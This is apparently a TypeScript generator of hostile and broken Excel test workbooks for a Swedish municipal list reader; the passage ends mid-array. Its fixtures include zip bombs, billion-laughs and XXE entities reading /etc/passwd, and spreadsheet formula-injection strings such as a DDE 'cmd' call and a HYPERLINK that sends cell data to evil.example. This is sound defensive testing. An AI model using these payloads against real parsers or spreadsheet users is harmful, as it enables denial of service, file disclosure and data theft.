/**
 * A generated corpus of hostile and broken workbooks (issue 6): each case makes its bytes in
 * memory when asked, so nothing large is committed. `scripts/make-hostile-corpus.js` writes them
 * all to a folder; tests of the reader take a case by file name and compare with `expected`.
 *
 * Every case that should be read carries the ordinary list (listWorkbooks.ts): the standard
 * headers and a few rows a consolidation can use.
 */
import {
  beyondGridWorkbook,
  CP1252_ROWS,
  duplicateSheetNames,
  escapeSequenceList,
  lastCellWorkbook,
  LATIN1_ROWS,
  longTextList,
  missingSharedString,
  singleByteSharedStrings,
  templateWorkbook,
} from "./sharedFolderCases";
import type * as ExcelJS from "exceljs";
import * as XLSX from "@e965/xlsx";
import type { WorkbookReadErrorReason } from "../../src/adapters/xlsxFile/WorkbookReadError";
import { serialFromIso } from "../../src/domain/parse/date";
import { bombWorksheet, repetitiveWorksheet } from "./deflateBombs";
import {
  LIST_HEADERS,
  LIST_ROWS,
  addListSheet,
  listColumn,
  listWorkbook,
  newWorkbook,
  serial,
  sheetjsBook,
  sheetjsList,
  writeExcel,
  writeSheetjs,
  type ListRow,
} from "./listWorkbooks";
import {
  deflatePart,
  editPart,
  replaceOnce,
  rezip,
  unzip,
  text,
  utf8,
  zipDeflated,
  zipWithDeflatedParts,
} from "./zipSurgery";

/** A refusal names the WorkbookReadError reason the reader should give. */
export type ExpectedReason = WorkbookReadErrorReason;

export type Expected =
  /** Read; `notes` = what we expect the user to be told (free text for the docs). */
  | { readonly outcome: "read"; readonly notes?: readonly string[] }
  | { readonly outcome: "refused"; readonly reason: ExpectedReason };

export interface HostileCase {
  /** File name with extension, ASCII kebab-case. */
  readonly file: string;
  /** One Swedish line for the docs table: what the input is. */
  readonly title: string;
  readonly titleEn: string;
  /** Takes more than 1 s or more than 5 MB to make. */
  readonly large?: boolean;
  /** Carries a list of its own (issue 14's sharedFolderCases.ts), not LIST_ROWS. */
  readonly ownList?: boolean;
  readonly expected: Expected;
  make(): Promise<Uint8Array>;
}

const SHEET_PART = "xl/worksheets/sheet1.xml";
const SHARED_STRINGS_PART = "xl/sharedStrings.xml";
const WORKBOOK_RELS_PART = "xl/_rels/workbook.xml.rels";
const CONTENT_TYPES_PART = "[Content_Types].xml";

const REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

// ---------------------------------------------------------------------------------------------
// Small tools

/** A seeded generator (mulberry32), so "random" bytes are the same every run. */
function randomBytes(length: number, seed: number): Uint8Array {
  let state = seed >>> 0;
  const out = new Uint8Array(length);
  for (let i = 0; i < length; i++) {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    out[i] = ((t ^ (t >>> 14)) >>> 0) & 0xff;
  }
  return out;
}

const base64 = (bytes: Uint8Array): string => Buffer.from(bytes).toString("base64");

/** The list's rows with one marker text in the "Behov – vad" column of the first row. */
function rowsWithMarker(marker: string): ListRow[] {
  return LIST_ROWS.map((row, i) => (i === 0 ? withCell(row, "behovVad", marker) : row));
}

function withCell(row: ListRow, key: "name" | "behovVad", value: string): ListRow {
  const copy = [...row] as [...ListRow];
  (copy as unknown[])[listColumn(key) - 1] = value;
  return copy as unknown as ListRow;
}

/** Puts a DOCTYPE right after the XML declaration of a part. */
function withDoctype(xml: string, doctype: string): string {
  return replaceOnce(xml, /^(<\?xml[^>]*\?>\s*)/, `$1${doctype}\n`);
}

/** `lol` and `lol1`…`lol9`, each ten of the one before: &lol9; would be 10^9 × "lol". */
function laughsDoctype(root: string): string {
  const entities = ['<!ENTITY lol "lol">'];
  for (let i = 1; i <= 9; i++) {
    const previous = i === 1 ? "lol" : `lol${i - 1}`;
    entities.push(`<!ENTITY lol${i} "${`&${previous};`.repeat(10)}">`);
  }
  return `<!DOCTYPE ${root} [\n${entities.join("\n")}\n]>`;
}

/** Replaces the shared string `<t>marker</t>` with `<t>replacement</t>` (raw XML, not escaped). */
function replaceSharedString(xml: string, marker: string, replacement: string): string {
  return replaceOnce(xml, `<t>${marker}</t>`, `<t>${replacement}</t>`);
}

/** Adds an Override to [Content_Types].xml. */
function addContentType(xml: string, partName: string, contentType: string): string {
  return replaceOnce(
    xml,
    "</Types>",
    `<Override PartName="${partName}" ContentType="${contentType}"/></Types>`
  );
}

function addRelationship(
  xml: string,
  id: string,
  type: string,
  target: string,
  external = false
): string {
  const mode = external ? ' TargetMode="External"' : "";
  return replaceOnce(
    xml,
    "</Relationships>",
    `<Relationship Id="${id}" Type="${type}" Target="${target}"${mode}/></Relationships>`
  );
}

/** The SheetJS CFB API used here (its typings declare CFB as any). */
interface CfbContainer {
  readonly FullPaths: string[];
}
interface CfbApi {
  write(container: CfbContainer, options: { type: "array" }): ArrayLike<number>;
  utils: {
    cfb_new(): CfbContainer;
    cfb_add(container: CfbContainer, name: string, content: Uint8Array): void;
  };
}
const CFB = XLSX.CFB as CfbApi;

/** An OLE compound file holding the given streams. */
function compoundFile(streams: ReadonlyArray<readonly [string, Uint8Array]>): Uint8Array {
  const container = CFB.utils.cfb_new();
  for (const [name, content] of streams) CFB.utils.cfb_add(container, name, content);
  const out = CFB.write(container, { type: "array" });
  return out instanceof Uint8Array ? out : Uint8Array.from(out);
}

/** Windows-1252 for the characters a Swedish CSV has; throws on anything else. */
const CP1252: Readonly<Record<string, number>> = {
  å: 0xe5,
  ä: 0xe4,
  ö: 0xf6,
  Å: 0xc5,
  Ä: 0xc4,
  Ö: 0xd6,
  é: 0xe9,
  "\u00a0": 0xa0,
  "–": 0x96,
};

function windows1252(textValue: string): Uint8Array {
  return Uint8Array.from([...textValue], (ch) => {
    const code = ch.charCodeAt(0);
    if (code < 0x80) return code;
    const mapped = CP1252[ch];
    if (mapped === undefined) throw new Error(`no Windows-1252 byte for ${ch}`);
    return mapped;
  });
}

// ---------------------------------------------------------------------------------------------
// The cases' bytes

function notAZip(): Uint8Array {
  const bytes = randomBytes(4096, 0x5eed);
  // Not "PK" (a zip), not D0 CF (an OLE file), not a BOM: the sniffer must call it not a workbook.
  bytes[0] = 0x8f;
  bytes[1] = 0x00;
  return bytes;
}

async function truncated(): Promise<Uint8Array> {
  const whole = await listWorkbook();
  return whole.slice(0, Math.floor(whole.length * 0.6));
}

/** The list with its sheet replaced by the 1.5 GiB bomb; `declaredSize` makes the headers lie. */
async function zipBomb(declaredSize?: number): Promise<Uint8Array> {
  const parts = unzip(await listWorkbook());
  const declared = new Map(declaredSize === undefined ? [] : [[SHEET_PART, declaredSize]]);
  parts.delete(SHEET_PART);
  return zipWithDeflatedParts(parts, new Map([[SHEET_PART, await bombWorksheet()]]), declared);
}

async function highRatio(): Promise<Uint8Array> {
  const parts = unzip(await listWorkbook());
  parts.delete(SHEET_PART);
  return zipWithDeflatedParts(parts, new Map([[SHEET_PART, deflatePart(repetitiveWorksheet())]]));
}

/**
 * The list with an XML entity under a DOCTYPE in the two kinds of parts we read: a shared string
 * (SheetJS's own scanner) and an extra relationship's target, of a type nothing follows
 * (fast-xml-parser, in readTables and workbookPackage).
 */
async function listUsingEntity(
  kind: string,
  doctype: (root: string) => string,
  entity: string
): Promise<Uint8Array> {
  const marker = `${kind.toUpperCase()}-MARKÖR`;
  const parts = unzip(await listWorkbook(rowsWithMarker(marker)));
  editPart(parts, SHARED_STRINGS_PART, (xml) =>
    replaceSharedString(withDoctype(xml, doctype("sst")), marker, entity)
  );
  editPart(parts, WORKBOOK_RELS_PART, (xml) =>
    addRelationship(
      withDoctype(xml, doctype("Relationships")),
      `rId${kind}`,
      `http://digiportfolj.invalid/relationships/${kind.toLowerCase()}`,
      entity
    )
  );
  return rezip(parts);
}

const billionLaughs = () => listUsingEntity("Lol", laughsDoctype, "&lol9;");

const XXE_DOCTYPE = (root: string): string =>
  `<!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`;

const externalEntity = () => listUsingEntity("Xxe", XXE_DOCTYPE, "&xxe;");

/**
 * What Excel writes for "Encrypt with password": an OLE file with EncryptionInfo (agile
 * encryption, version 4.4, flags 0x40, then the XML descriptor) and EncryptedPackage (the
 * package's size as 8 bytes, then ciphertext). The salts, keys and ciphertext are seeded random
 * bytes: plausible, not decryptable.
 */
function encrypted(): Uint8Array {
  const rnd = (n: number, seed: number): string => base64(randomBytes(n, seed));
  const descriptor =
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n` +
    `<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption" ` +
    `xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password">` +
    `<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" ` +
    `cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="${rnd(16, 1)}"/>` +
    `<dataIntegrity encryptedHmacKey="${rnd(64, 2)}" encryptedHmacValue="${rnd(64, 3)}"/>` +
    `<keyEncryptors><keyEncryptor uri="http://schemas.microsoft.com/office/2006/keyEncryptor/password">` +
    `<p:encryptedKey spinCount="100000" saltSize="16" blockSize="16" keyBits="256" hashSize="64" ` +
    `cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" ` +
    `saltValue="${rnd(16, 4)}" encryptedVerifierHashInput="${rnd(16, 5)}" ` +
    `encryptedVerifierHashValue="${rnd(64, 6)}" encryptedKeyValue="${rnd(32, 7)}"/>` +
    `</keyEncryptor></keyEncryptors></encryption>`;
  const versionAndFlags = [0x04, 0x00, 0x04, 0x00, 0x40, 0x00, 0x00, 0x00];
  const info = new Uint8Array([...versionAndFlags, ...utf8(descriptor)]);
  const packageSize = 7000;
  const encryptedPackage = new Uint8Array(8 + 7008);
  new DataView(encryptedPackage.buffer).setUint32(0, packageSize, true);
  encryptedPackage.set(randomBytes(7008, 8), 8);
  return compoundFile([
    ["EncryptionInfo", info],
    ["EncryptedPackage", encryptedPackage],
  ]);
}

async function macroEnabled(): Promise<Uint8Array> {
  const parts = unzip(await listWorkbook());
  // Any bytes would do; a small OLE file is what a vbaProject.bin is.
  parts.set(
    "xl/vbaProject.bin",
    compoundFile([
      ["VBA/dir", randomBytes(256, 9)],
      [
        "PROJECT",
        utf8('ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisWorkbook/&H00000000\r\n'),
      ],
    ])
  );
  editPart(parts, CONTENT_TYPES_PART, (xml) =>
    addContentType(
      replaceOnce(
        xml,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
      ),
      "/xl/vbaProject.bin",
      "application/vnd.ms-office.vbaProject"
    )
  );
  editPart(parts, WORKBOOK_RELS_PART, (xml) =>
    addRelationship(
      xml,
      "rIdVba",
      "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
      "vbaProject.bin"
    )
  );
  return rezip(parts);
}

function sheetjsListFile(bookType: XLSX.BookType): Uint8Array {
  const iso = bookType === "ods";
  return writeSheetjs(sheetjsBook(sheetjsList(LIST_ROWS, iso ? "iso" : "serial")), bookType);
}

/** A Swedish CSV as Excel saves it: semicolons, comma decimals, NBSP thousands, Windows-1252. */
function swedishCsv(): Uint8Array {
  const nbsp = "\u00a0";
  const amount = (n: number): string => {
    const [whole = "0", decimals = "00"] = n.toFixed(2).split(".");
    return `${whole.replace(/\B(?=(\d{3})+(?!\d))/g, nbsp)},${decimals}`;
  };
  const lines = [LIST_HEADERS.join(";")];
  for (const row of LIST_ROWS) {
    lines.push(
      row
        .map((value, i) => {
          if (typeof value === "number") return amount(value + (i === 7 ? 0.5 : 0));
          return value.includes(";") ? `"${value}"` : value;
        })
        .join(";")
    );
  }
  lines.push(
    [
      "HK-2026-05",
      "Tolktjänst på distans",
      "Socialförvaltningen",
      "Ärla Öst",
      "Idé",
      "",
      "",
      amount(1234.5),
      "0,00",
      "Tolk via video – på svenska",
    ].join(";")
  );
  return windows1252(`${lines.join("\r\n")}\r\n`);
}

const escapeXml = (value: string): string =>
  value.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");

/**
 * 100,000 generated rows × the list's 10 columns, as Excel stores them: shared strings, dates and
 * amounts as styled numbers. The sheet and string parts are written here as text into the plain
 * list workbook (its styles, content types and header), because SheetJS took ~25 s for this
 * (aoa_to_sheet 4 s, write 20 s) and the text takes under 1 s. Deflated at level 6.
 */
async function hundredThousandRows(): Promise<Uint8Array> {
  const parts = unzip(await listWorkbook());
  const sheet = text(parts.get(SHEET_PART) ?? new Uint8Array());
  // The style of each column's data cells, as exceljs wrote them in row 2 (dates, amounts).
  const styleOf = (column: number): string => {
    const ref = `${XLSX.utils.encode_col(column - 1)}2`;
    const match = new RegExp(`<c r="${ref}"( s="\\d+")?`).exec(sheet);
    return match?.[1] ?? "";
  };
  const strings = new Map<string, number>(LIST_HEADERS.map((h, i) => [h, i]));
  let stringCount = LIST_HEADERS.length;
  const stringCell = (ref: string, value: string): string => {
    let index = strings.get(value);
    if (index === undefined) {
      index = strings.size;
      strings.set(value, index);
    }
    stringCount++;
    return `<c r="${ref}" t="s"><v>${index}</v></c>`;
  };
  const forvaltningar = [
    "Kommunledningsförvaltningen",
    "Socialförvaltningen",
    "Barn- och utbildningsförvaltningen",
    "Samhällsbyggnadsförvaltningen",
    "Kultur- och fritidsförvaltningen",
  ];
  const people = ["Karin Lindqvist", "Per Öberg", "Åsa Nilsson", "Lina Svensson", "Johan Ek"];
  const statuses = ["Idé", "Förstudie", "Beslutad", "Pågående", "Avslutad", "Pausad"];
  const firstStart = serial("2024-01-01");
  const dateStyle = styleOf(listColumn("startdatum"));
  const amountStyle = styleOf(listColumn("investering"));
  const header = LIST_HEADERS.map(
    (_, c) => `<c r="${XLSX.utils.encode_col(c)}1" t="s"><v>${c}</v></c>`
  ).join("");
  // Joined into bytes every few thousand rows: one 37 MB string of small pieces kept the garbage
  // collector busy for seconds.
  const chunks: Buffer[] = [];
  let rows: string[] = [`<row r="1">${header}</row>`];
  for (let i = 1; i <= HUNDRED_THOUSAND; i++) {
    const r = i + 1;
    const start = firstStart + (i % 730);
    rows.push(
      `<row r="${r}">` +
        stringCell(`A${r}`, `HK-${String(i).padStart(6, "0")}`) +
        stringCell(`B${r}`, `Initiativ nummer ${i}`) +
        stringCell(`C${r}`, forvaltningar[i % 5] ?? "") +
        stringCell(`D${r}`, people[(i * 7) % 5] ?? "") +
        stringCell(`E${r}`, statuses[i % 6] ?? "") +
        `<c r="F${r}"${dateStyle}><v>${start}</v></c>` +
        `<c r="G${r}"${dateStyle}><v>${start + 90 + (i % 400)}</v></c>` +
        `<c r="H${r}"${amountStyle}><v>${((i * 7919) % 2000) * 1000}</v></c>` +
        `<c r="I${r}"${amountStyle}><v>${((i * 104729) % 500) * 1000}</v></c>` +
        stringCell(
          `J${r}`,
          `Behov ${i % 97}: ${people[i % 5] ?? ""} vill ${statuses[(i * 3) % 6] ?? ""}`
        ) +
        `</row>`
    );
    if (rows.length === 5000) {
      chunks.push(Buffer.from(rows.join(""), "utf8"));
      rows = [];
    }
  }
  chunks.push(Buffer.from(rows.join(""), "utf8"));
  const lastRef = `${XLSX.utils.encode_col(LIST_HEADERS.length - 1)}${HUNDRED_THOUSAND + 1}`;
  const [before = "", after = ""] = replaceOnce(
    sheet,
    /<dimension ref="[^"]*"\/>/,
    `<dimension ref="A1:${lastRef}"/>`
  ).split(/<sheetData>[\s\S]*<\/sheetData>/);
  parts.set(
    SHEET_PART,
    Buffer.concat([
      Buffer.from(`${before}<sheetData>`, "utf8"),
      ...chunks,
      Buffer.from(`</sheetData>${after}`, "utf8"),
    ])
  );
  const items = [...strings.keys()].map((value) => `<si><t>${escapeXml(value)}</t></si>`);
  parts.set(
    SHARED_STRINGS_PART,
    utf8(
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n` +
        `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="${stringCount}" uniqueCount="${strings.size}">` +
        `${items.join("")}</sst>`
    )
  );
  return zipDeflated(parts, 6);
}

const HUNDRED_THOUSAND = 100_000;

/** Excel's longest cell text: 32,767 characters. */
const MAX_CELL_TEXT = 32_767;

function longText(start: string): string {
  const sentence =
    "Förvaltningen vill samla ärenden, dokument och beslut på ett ställe så att handläggare " +
    "och invånare ser samma uppgifter – utan dubbelregistrering och utan pappersblanketter. ";
  return (start + sentence.repeat(Math.ceil(MAX_CELL_TEXT / sentence.length))).slice(
    0,
    MAX_CELL_TEXT
  );
}

async function longCells(): Promise<Uint8Array> {
  const rows = LIST_ROWS.map((row, i) =>
    i < 2
      ? withCell(
          withCell(row, "name", longText(`${row[1]}: `)),
          "behovVad",
          longText(`Behov i ${row[0]}: `)
        )
      : row
  );
  return listWorkbook(rows);
}

const EXTRA_ROWS: readonly ListRow[] = [
  [
    "HK-2026-05",
    "Digital närvaro i skolan",
    "Barn- och utbildningsförvaltningen",
    "Johan Ek",
    "Pågående",
    "2026-01-20",
    "2026-08-31",
    300000,
    90000,
    "Registrera närvaro i appen",
  ],
  [
    "HK-2026-06",
    "Skolskjuts på karta",
    "Barn- och utbildningsförvaltningen",
    "Johan Ek",
    "Idé",
    "2026-06-01",
    "2026-12-15",
    75000,
    20000,
    "Se skolskjutsens hållplatser",
  ],
  [
    "HK-2026-07",
    "Digital brevlåda för invånare",
    "Kommunledningsförvaltningen",
    "Per Öberg",
    "Förstudie",
    "2026-04-01",
    "2026-10-31",
    140000,
    35000,
    "Få kommunens brev digitalt",
  ],
];

/**
 * A title merged across the top, the headers in row 2 and the Förvaltning column merged over
 * the rows that share one (the value only in the merge's top cell, as Excel keeps it).
 */
async function mergedCells(): Promise<Uint8Array> {
  const rows = [...LIST_ROWS, ...EXTRA_ROWS].sort((a, b) => a[2].localeCompare(b[2], "sv"));
  const wb = newWorkbook();
  const ws = addListSheet(wb, "Initiativ", rows, 2);
  ws.getCell("A1").value = "Digitaliseringsinitiativ 2026 – Hemkommun";
  ws.getCell("A1").font = { bold: true, size: 16 };
  ws.mergeCells(1, 1, 1, LIST_HEADERS.length);
  const column = listColumn("forvaltning");
  let first = 0;
  for (let i = 1; i <= rows.length; i++) {
    if (i < rows.length && rows[i]?.[2] === rows[first]?.[2]) continue;
    if (i - 1 > first) ws.mergeCells(3 + first, column, 3 + i - 1, column);
    first = i;
  }
  return writeExcel(wb);
}

/** Rows for the sheets people hide: last year's list and a very hidden one. */
const HIDDEN_ROWS: readonly ListRow[] = [
  [
    "HK-2025-01",
    "Gammal e-tjänst för parkeringstillstånd",
    "Samhällsbyggnadsförvaltningen",
    "Per Öberg",
    "Avslutad",
    "2025-01-10",
    "2025-06-30",
    120000,
    40000,
    "Söka parkeringstillstånd",
  ],
  [
    "HK-2025-02",
    "Utredd men avbruten app",
    "Kultur- och fritidsförvaltningen",
    "Åsa Nilsson",
    "Avbruten",
    "2025-02-01",
    "2025-05-31",
    60000,
    0,
    "Boka lokaler i mobilen",
  ],
];

async function hiddenThings(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const old = addListSheet(wb, "Gamla initiativ", HIDDEN_ROWS);
  old.state = "hidden";
  const visible = addListSheet(wb, "Initiativ");
  visible.getRow(3).hidden = true;
  visible.getColumn(listColumn("ansvarig")).hidden = true;
  const secret = addListSheet(wb, "Hemligt", [
    [
      "HK-2024-99",
      "Hemligt initiativ",
      "Kommunledningsförvaltningen",
      "Karin Lindqvist",
      "Idé",
      "2024-03-01",
      "2024-12-31",
      999000,
      0,
      "Syns inte i Excel",
    ],
  ]);
  secret.state = "veryHidden";
  // The visible sheet is the active one, as Excel requires.
  wb.views = [
    { x: 0, y: 0, width: 20000, height: 12000, firstSheet: 1, activeTab: 1, visibility: "visible" },
  ];
  return writeExcel(wb);
}

const LAST_ROW = 1_048_576;

interface WithDataValidations {
  readonly dataValidations: { add(range: string, validation: ExcelJS.DataValidation): void };
}

/** List validations and conditional formats over whole columns, as people set them up. */
async function wholeColumns(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = addListSheet(wb, "Initiativ");
  // exceljs has `worksheet.dataValidations` but leaves it out of its typings.
  const validations = (ws as unknown as WithDataValidations).dataValidations;
  const letter = (key: Parameters<typeof listColumn>[0]): string =>
    XLSX.utils.encode_col(listColumn(key) - 1);
  const whole = (key: Parameters<typeof listColumn>[0]): string =>
    `${letter(key)}2:${letter(key)}${LAST_ROW}`;
  const list = (values: readonly string[]) => ({
    type: "list" as const,
    allowBlank: true,
    formulae: [`"${values.join(",")}"`],
    showErrorMessage: true,
  });
  validations.add(
    whole("forvaltning"),
    list([
      "Kommunledningsförvaltningen",
      "Socialförvaltningen",
      "Samhällsbyggnadsförvaltningen",
      "Barn- och utbildningsförvaltningen",
    ])
  );
  validations.add(
    whole("status"),
    list(["Idé", "Förstudie", "Beslutad", "Pågående", "Avslutad", "Pausad", "Avbruten"])
  );
  validations.add(whole("ansvarig"), {
    type: "textLength",
    operator: "lessThanOrEqual",
    allowBlank: true,
    formulae: [100],
    showErrorMessage: true,
  });
  validations.add(whole("investering"), {
    type: "decimal",
    operator: "greaterThanOrEqual",
    allowBlank: true,
    formulae: [0],
    showErrorMessage: true,
  });
  validations.add(whole("kostnadsbesparing"), {
    type: "decimal",
    operator: "greaterThanOrEqual",
    allowBlank: true,
    formulae: [0],
    showErrorMessage: true,
  });
  ws.addConditionalFormatting({
    ref: `${letter("investering")}:${letter("investering")}`,
    rules: [
      {
        type: "cellIs",
        operator: "greaterThan",
        formulae: [1000000],
        priority: 1,
        style: { fill: { type: "pattern", pattern: "solid", bgColor: { argb: "FFFFC7CE" } } },
      },
    ],
  });
  ws.addConditionalFormatting({
    ref: `A:${letter("behovVad")}`,
    rules: [
      {
        type: "expression",
        formulae: [`$${letter("status")}1="Avbruten"`],
        priority: 2,
        style: { font: { strike: true } },
      },
    ],
  });
  return writeExcel(wb);
}

/**
 * Formulas over another workbook ([1]Blad1!B2) with their cached values, and the externalLink
 * part Excel keeps for them: exceljs writes the formulas but not the link, so the link part, its
 * relationship to file:///C:/hemlig/budget.xlsx and <externalReferences> are added to the package.
 */
async function externalLinks(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = addListSheet(wb, "Initiativ");
  const inv = listColumn("investering");
  const saving = listColumn("kostnadsbesparing");
  LIST_ROWS.forEach((row, i) => {
    ws.getCell(2 + i, inv).value = { formula: `[1]Blad1!B${2 + i}`, result: row[7] };
    ws.getCell(2 + i, saving).value = { formula: `[1]Blad1!C${2 + i}*0.5`, result: row[8] };
  });
  const parts = unzip(await writeExcel(wb));
  const cells = LIST_ROWS.map(
    (row, i) =>
      `<row r="${2 + i}"><cell r="B${2 + i}"><v>${row[7]}</v></cell><cell r="C${2 + i}"><v>${row[8] * 2}</v></cell></row>`
  ).join("");
  parts.set(
    "xl/externalLinks/externalLink1.xml",
    utf8(
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n` +
        `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL_NS}">` +
        `<externalBook r:id="rId1"><sheetNames><sheetName val="Blad1"/></sheetNames>` +
        `<sheetDataSet><sheetData sheetId="0">${cells}</sheetData></sheetDataSet></externalBook></externalLink>`
    )
  );
  parts.set(
    "xl/externalLinks/_rels/externalLink1.xml.rels",
    utf8(
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n` +
        `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
        `<Relationship Id="rId1" Type="${REL_NS}/externalLinkPath" Target="file:///C:/hemlig/budget.xlsx" TargetMode="External"/>` +
        `</Relationships>`
    )
  );
  editPart(parts, CONTENT_TYPES_PART, (xml) =>
    addContentType(
      xml,
      "/xl/externalLinks/externalLink1.xml",
      "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    )
  );
  editPart(parts, WORKBOOK_RELS_PART, (xml) =>
    addRelationship(xml, "rIdExt1", `${REL_NS}/externalLink`, "externalLinks/externalLink1.xml")
  );
  editPart(parts, "xl/workbook.xml", (xml) =>
    replaceOnce(
      xml,
      "</sheets>",
      `</sheets><externalReferences><externalReference r:id="rIdExt1"/></externalReferences>`
    )
  );
  return rezip(parts);
}

/** Error cells in the amount columns: literal errors and formulas whose cached result is one. */
async function formulaErrors(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = addListSheet(wb, "Initiativ");
  const inv = listColumn("investering");
  const saving = listColumn("kostnadsbesparing");
  ws.getCell(2, inv).value = { error: "#REF!" };
  ws.getCell(3, inv).value = { formula: "1/0", result: { error: "#DIV/0!" } };
  ws.getCell(4, inv).value = { error: "#N/A" };
  ws.getCell(5, inv).value = { formula: `"tkr"+1`, result: { error: "#VALUE!" } };
  ws.getCell(2, saving).value = { formula: "#REF!*2", result: { error: "#REF!" } };
  ws.getCell(3, saving).value = { error: "#DIV/0!" };
  ws.getCell(4, saving).value = {
    formula: `VLOOKUP(A4,Budget!A:B,2,FALSE)`,
    result: { error: "#N/A" },
  };
  ws.getCell(5, saving).value = { error: "#VALUE!" };
  return writeExcel(wb);
}

/** The 1904 date system: exceljs writes each date's serial counted from 1904-01-01. */
async function dates1904(): Promise<Uint8Array> {
  const wb = newWorkbook();
  wb.properties.date1904 = true;
  addListSheet(wb, "Initiativ");
  return writeExcel(wb);
}

/** The serial a 1904 workbook holds for an ISO date (the test checks the generator wrote it). */
export function serial1904(iso: string): number {
  const value = serialFromIso(iso, true);
  if (value === null) throw new Error(`not a 1904 date: ${iso}`);
  return value;
}

/** Amounts as text, spaced the Swedish way: NBSP (U+00A0), narrow NBSP (U+202F), and units. */
export const TEXT_AMOUNTS: readonly (readonly [investering: string, besparing: string])[] = [
  ["1\u00a0234\u00a0567", "250\u00a0000"],
  ["1\u202f234\u202f567", "60\u202f000 kr"],
  ["12\u00a0500 kr", "30 000"],
  ["1,5 mnkr", "0,4 mnkr"],
];

async function nbspAmounts(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = addListSheet(wb, "Initiativ");
  TEXT_AMOUNTS.forEach(([investering, besparing], i) => {
    ws.getCell(2 + i, listColumn("investering")).value = investering;
    ws.getCell(2 + i, listColumn("kostnadsbesparing")).value = besparing;
  });
  return writeExcel(wb);
}

/** Text that a spreadsheet would run as a formula if it were pasted or exported unescaped. */
export const FORMULA_LIKE_TEXTS: readonly (readonly [name: string, behov: string])[] = [
  [`=HYPERLINK("http://evil.example","klick")`, `=1+1`],
  [`=cmd|' /C calc'!A0`, `-2+3`],
  [`+1+1`, `@SUM(A1:A9)`],
  [`@SUM(1)`, `=HYPERLINK("http://evil.example/?d="&A1,"Läs mer")`],
];

async function formulaLikeText(): Promise<Uint8Array> {
  const rows = LIST_ROWS.map((row, i) => {
    const [name = "", behov = ""] = FORMULA_LIKE_TEXTS[i] ?? [];
    return withCell(withCell(row, "name", name), "behovVad", behov);
  });
  return listWorkbook(rows);
}

/** A Word document (its own content types and parts) with a spreadsheet's name. */
function wordDocument(): Uint8Array {
  const W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
  return rezip(
    new Map([
      [
        CONTENT_TYPES_PART,
        utf8(
          `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n` +
            `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
            `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
            `<Default Extension="xml" ContentType="application/xml"/>` +
            `<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>` +
            `</Types>`
        ),
      ],
      [
        "_rels/.rels",
        utf8(
          `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n` +
            `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
            `<Relationship Id="rId1" Type="${REL_NS}/officeDocument" Target="word/document.xml"/>` +
            `</Relationships>`
        ),
      ],
      [
        "word/document.xml",
        utf8(
          `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n` +
            `<w:document xmlns:w="${W_NS}"><w:body><w:p><w:r><w:t>Initiativ 2026: se bifogad lista.</w:t></w:r></w:p></w:body></w:document>`
        ),
      ],
    ])
  );
}

// ---------------------------------------------------------------------------------------------
// The corpus

const bytes = (make: () => Uint8Array) => (): Promise<Uint8Array> => Promise.resolve().then(make);

export const HOSTILE_CASES: readonly HostileCase[] = [
  {
    file: "inte-en-zip.xlsx",
    title: "Slumpmässiga byte med filändelsen .xlsx",
    titleEn: "Random bytes named .xlsx",
    expected: { outcome: "refused", reason: "not_a_workbook" },
    make: bytes(notAZip),
  },
  {
    file: "avkortad.xlsx",
    title: "En lista avklippt efter 60 % av filen (avbruten nedladdning)",
    titleEn: "A list workbook cut off at 60 % of its bytes (an interrupted download)",
    expected: { outcome: "refused", reason: "corrupt" },
    make: truncated,
  },
  {
    file: "zip-bomb.xlsx",
    title:
      "Zip-bomb: bladet packas upp till 1,5 GiB från 1,7 MB, med ärliga storlekar i zip-huvudena",
    titleEn:
      "Zip bomb: the sheet inflates to 1.5 GiB from 1.7 MB, with honest sizes in the zip headers",
    large: true,
    expected: { outcome: "refused", reason: "inflate_limit" },
    make: () => zipBomb(),
  },
  {
    file: "zip-bomb-ljuger.xlsx",
    title: "Zip-bomb som uppger 4 KB i zip-huvudena men packas upp till 1,5 GiB",
    titleEn: "Zip bomb whose zip headers declare 4 KB but which inflates to 1.5 GiB",
    large: true,
    expected: { outcome: "refused", reason: "inflate_limit" },
    make: () => zipBomb(4096),
  },
  {
    file: "hog-packningsgrad.xlsx",
    title: "Ett blad på 30 MB upprepad XML packat till 140 KB (ca 1:225; gränsen är 1:100)",
